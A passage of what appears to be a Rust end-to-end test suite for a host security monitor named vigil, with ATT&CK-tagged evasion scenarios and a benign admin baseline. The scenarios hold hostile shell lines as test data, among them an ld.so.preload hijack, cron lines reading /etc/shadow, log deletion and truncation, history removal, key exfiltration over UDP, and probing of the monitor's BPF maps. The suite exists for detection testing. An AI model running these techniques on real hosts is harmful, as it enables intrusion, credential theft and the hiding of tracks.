            ev(Naming, s("ld.so.preload hard-linked into place", "echo /nonexistent/vigil-ev.so > /var/tmp/vigil-ev-preload && ln /var/tmp/vigil-ev-preload /etc/ld.so.preload; rm -f /etc/ld.so.preload /var/tmp/vigil-ev-preload", "dynamic-linker-hijack", "T1574.006")).at("/etc/ld.so.preload"),
            ev(Naming, s("a PAM service symlinked in through a bind mount of /etc", &format!("mkdir -p {d}/e3 && mount --bind /etc {d}/e3 && ln -s /etc/pam.d/other {d}/e3/pam.d/vigil-e2e-ev3; umount {d}/e3; rm -f /etc/pam.d/vigil-e2e-ev3"), "pam-modified", "T1556.003")).at("/etc/pam.d/vigil-e2e-ev3"),
            ev(Naming, s("a cron entry renamed into place through the 32-bit ABI", "echo '# x' > /var/tmp/vigil-ev-job4 && \"$VIGIL_TEST_HELPER\" int80 rename /var/tmp/vigil-ev-job4 /etc/cron.d/vigil-e2e-ev4; rm -f /etc/cron.d/vigil-e2e-ev4", "crontab-modified", "T1053.003")).at("/etc/cron.d/vigil-e2e-ev4").also("compat-syscall-in-session"),
            // A whole directory swapped for one made elsewhere: its name has no '/' after it
            // unless the event says it is a directory. The original is put back.
            ev(Naming, s("profile.d swapped for a directory made elsewhere", "cp -a /etc/profile.d /var/tmp/vigil-ev-pd && mv /etc/profile.d /etc/profile.d.vigil-ev && mv /var/tmp/vigil-ev-pd /etc/profile.d; mv /etc/profile.d /var/tmp/vigil-ev-pd2; mv /etc/profile.d.vigil-ev /etc/profile.d; rm -rf /var/tmp/vigil-ev-pd /var/tmp/vigil-ev-pd2", "shell-startup-modified", "T1546.004")).at("/etc/profile.d/"),
            // rm replaced by another program's unlink(2): the name removed is the event.
            ev(Program, s("a log deleted from python", ": >> /var/log/vigil-e2e-ev.log && python3 -c \"import os; os.unlink('/var/log/vigil-e2e-ev.log')\"", "logs-tampered", "T1070.002")).at("/var/log/vigil-e2e-ev.log"),
            // Lines taken out of a log: sed writes a new file beside it and renames it over.
            ev(Program, s("log lines removed with sed -i", &format!(": >> {EDITED_LOG} && sed -i '/vigil/d' {EDITED_LOG}"), "logs-tampered", "T1070.002")).at(EDITED_LOG),
            // Emptied without an open that truncates: truncate(2), and ftruncate(2) on an fd
            // opened for reading and writing.
            ev(Program, s("a log emptied with truncate(2) from python", &format!(": >> {EDITED_LOG} && python3 -c \"import os; os.truncate('{EDITED_LOG}', 0)\""), "logs-tampered", "T1070.002")).at(EDITED_LOG),
            ev(Program, s("a log emptied with ftruncate(2) from python", &format!(": >> {EDITED_LOG} && python3 -c \"open('{EDITED_LOG}', 'r+').truncate(0)\""), "logs-tampered", "T1070.002")).at(EDITED_LOG),
            ev(Program, s("shell history moved away from python", ": >> ~/.bash_history && python3 -c \"import os; os.rename(os.path.expanduser('~/.bash_history'), '/var/tmp/vigil-ev-hist')\"; rm -f /var/tmp/vigil-ev-hist", "shell-history-cleared", "T1070.003")),
            ev(Program, s("a PAM module written from python", &format!("python3 -c \"open('{ROUTINE_DIR}/security/pam_vigil_ev.so', 'wb').close()\"; rm -f {ROUTINE_DIR}/security/pam_vigil_ev.so"), "pam-modified", "T1556.003")),
            ev(Scope, s("cron entry", "echo '* * * * * root cat /etc/shadow' > /etc/cron.d/vigil-e2e-ev; rm -f /etc/cron.d/vigil-e2e-ev", "crontab-modified", "T1053.003")),
            ev(Scope, s("docker run", "docker run --rm alpine cat /etc/shadow > /dev/null 2>&1; true", "session-escape-container", "T1609")),
            ev(Scope, s("kubectl exec", "kubectl exec pod-x -- cat /etc/shadow > /dev/null 2>&1; true", "session-escape-container", "T1609")),
            ev(Scope, s("ssh to localhost", "exec 3<>/dev/tcp/127.0.0.1/22 2>/dev/null; true", "session-escape-ssh-localhost", "T1021.004")),
            // TCP Fast Open connects in the first send: no connect(2) at all.
            ev(Scope, s("ssh to localhost by TCP Fast Open", "\"$VIGIL_TEST_HELPER\" fast-open 127.0.0.1:22 2>/dev/null; true", "session-escape-ssh-localhost", "T1021.004")),
            ev(Scope, s("ssh to localhost by TCP Fast Open through socketcall", "\"$VIGIL_TEST_HELPER\" int80 fast-open 127.0.0.1:22 2>/dev/null; true", "session-escape-ssh-localhost", "T1021.004")).also("compat-syscall-in-session"),
            // --- how traffic leaves the host ----------------------------------------------
            // A key read, then sent away in UDP datagrams addressed with no connect(2).
            ev(Network, s("key sent in a UDP datagram", &format!("{key} && \"$VIGIL_TEST_HELPER\" datagrams {ip}:{sink} > /dev/null"), "bulk-read-then-outbound", "T1041")),
            ev(Network, s("key sent by sendmmsg behind a local decoy", &format!("{key} && \"$VIGIL_TEST_HELPER\" datagrams --mmsg 127.0.0.1:9 {ip}:{sink} > /dev/null"), "bulk-read-then-outbound", "T1041")),
            // --- how the monitor itself is reached ----------------------------------------
            ev(Monitor, s("the monitor's policy map got by id", "\"$VIGIL_TEST_HELPER\" bpf-map-fd POLICY > /dev/null", "bpf-in-session", "T1562.001")),
            ev(Monitor, s("the daemon's open files taken with pidfd_getfd", "python3 -c \"import ctypes, os; ctypes.CDLL(None).syscall(438, os.pidfd_open(int(os.popen('pgrep -nx vigil').read())), 0, 0)\"", "process-memory-access", "T1003.007")),
            ev(Monitor, s("map ids walked from python", "python3 -c \"import ctypes; a = ctypes.create_string_buffer(64); ctypes.CDLL(None).syscall(321, 12, a, 64)\"", "bpf-in-session", "T1562.001")),
            ev(Monitor, s("map ids walked through the 32-bit ABI", "\"$VIGIL_TEST_HELPER\" int80 bpf-next-map", "bpf-in-session", "T1562.001")).also("compat-syscall-in-session"),
            ev(Network, s("a raw ICMP socket (a ping tunnel)", "python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b'\\\\x08\\\\x00\\\\xf7\\\\xff\\\\x00\\\\x00\\\\x00\\\\x00', ('127.0.0.1', 0))\"", "raw-socket-in-session", "T1095")),
            ev(Network, s("a packet socket (a sniffer)", "python3 -c \"import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).recv(1)\" & sleep 0.2; kill $! 2>/dev/null; true", "raw-socket-in-session", "T1095")),
            ev(Network, s("a raw socket through socketcall", "\"$VIGIL_TEST_HELPER\" int80 raw-socket", "raw-socket-in-session", "T1095")).also("compat-syscall-in-session"),
            ev(Network, s("key sent by python's sendto", &format!("{key} && python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'k', ('{ip}', {sink}))\""), "bulk-read-then-outbound", "T1041")),
        ]
    }

    /// Benign administration sessions: `count` sessions, each a few everyday tasks (chosen
    /// deterministically, so every run is the same).
    pub fn benign(&self, count: usize) -> Vec<String> {
        let tasks = [
            "ls -la /etc > /dev/null",
            "df -h > /dev/null",
            "ps aux > /dev/null",
            "uptime > /dev/null; id > /dev/null; whoami > /dev/null",
            "cat /etc/hostname /etc/os-release > /dev/null",
            "grep -c root /etc/passwd > /dev/null",
            "du -sh /usr/share/doc > /dev/null 2>&1",
            "tail -n 20 /var/log/dpkg.log > /dev/null 2>&1",
            "find /etc -maxdepth 1 -name '*.conf' > /dev/null",
            "ip addr > /dev/null 2>&1; ss -tln > /dev/null 2>&1",
            "free -m > /dev/null; cat /proc/meminfo > /dev/null",
            "systemctl status cron --no-pager > /dev/null 2>&1; true",
            "journalctl -n 50 --no-pager > /dev/null 2>&1; true",
            "crontab -l > /dev/null 2>&1; true",
            "cat /etc/ssh/sshd_config > /dev/null",
            "sudo -n -u root systemctl is-active cron > /dev/null 2>&1; true",
            "tar czf /tmp/vigil-e2e-etc-backup.tgz -C /etc hostname hosts 2>/dev/null; rm -f /tmp/vigil-e2e-etc-backup.tgz",
            "mkdir -p /tmp/vigil-e2e-work && cp /etc/hosts /tmp/vigil-e2e-work/ && rm -rf /tmp/vigil-e2e-work",
            "cat ~/.bashrc > /dev/null 2>&1; cat ~/.ssh/authorized_keys > /dev/null 2>&1; true",
            "ls -la ~/.ssh > /dev/null 2>&1; true",
            "dpkg -l > /dev/null 2>&1",
            "sort /etc/passwd | head -n 3 > /dev/null",
            "env > /dev/null; date > /dev/null; hostname > /dev/null",
            "sha256sum /etc/hosts > /dev/null",
            "curl -s http://127.0.0.1:{web}/health > /dev/null; true",
            "openssl version > /dev/null 2>&1; true",
            "w > /dev/null 2>&1; last -n 5 > /dev/null 2>&1; true",
            "echo 'note' >> /tmp/vigil-e2e-notes; rm -f /tmp/vigil-e2e-notes",
            "less -F /etc/hosts < /dev/null > /dev/null 2>&1; true",
            "python3 -c 'print(1)' > /dev/null",
        ];
        // A small linear congruential generator: deterministic, and enough to mix tasks.
        let mut state: u64 = 0x5eed;
        let mut next = || {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (state >> 33) as usize
        };
        (0..count)
            .map(|_| {
                let n = 3 + next() % 4;
                (0..n)
                    .map(|_| {
                        tasks[next() % tasks.len()].replace("{web}", &self.web_port.to_string())
                    })
                    .collect::<Vec<_>>()
                    .join("; ")
            })
            .collect()
    }
}

/// A real unix socket listening at `DOCKER_SOCKET` (accepting and closing), unless the host has
/// one: the scenarios connect to it by other names.
fn docker_socket() -> Option<std::process::Child> {
    if Path::new(DOCKER_SOCKET).exists() {
        return None;
    }
    let child = Command::new("python3")
        .args([
            "-c",
            "import socket, sys\ns = socket.socket(socket.AF_UNIX)\ns.bind(sys.argv[1])\ns.listen(64)\nprint('ready', flush=True)\nwhile True:\n    s.accept()[0].close()",
            DOCKER_SOCKET,
        ])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("python3 listens on the socket");
    let mut child = child;
    let mut ready = String::new();
    if let Some(out) = child.stdout.take() {
        std::io::BufReader::new(out)
            .read_line(&mut ready)
            .expect("the socket listener starts");
    }
    Some(child)
}

impl Drop for Fixtures {
    fn drop(&mut self) {
        if let Some(mut holder) = self.socket_holder.take() {
            let _ = holder.kill();
            let _ = holder.wait();
            let _ = std::fs::remove_file(DOCKER_SOCKET);
        }
        if self.made_token {
            let _ = std::fs::remove_dir_all("/run/secrets");
        }
        let _ = self.tty_holder.kill();
        let _ = self.tty_holder.wait();
        // Left by its variant: removing it there would be a log removed too.
        let _ = std::fs::remove_file(EDITED_LOG);
        let _ = &self.dir;
    }
}

/// A script line connecting to the unix socket at `path` (with Python: no client program's
/// name to go by).
fn connect_unix(path: &str) -> String {
    format!("python3 -c \"import socket; socket.socket(socket.AF_UNIX).connect('{path}')\"")
}

fn s(name: &str, script: &str, rule: &'static str, technique: &'static str) -> Scenario {
    Scenario {
        name: name.to_string(),
        script: script.to_string(),
        rule,
        technique,
    }
}
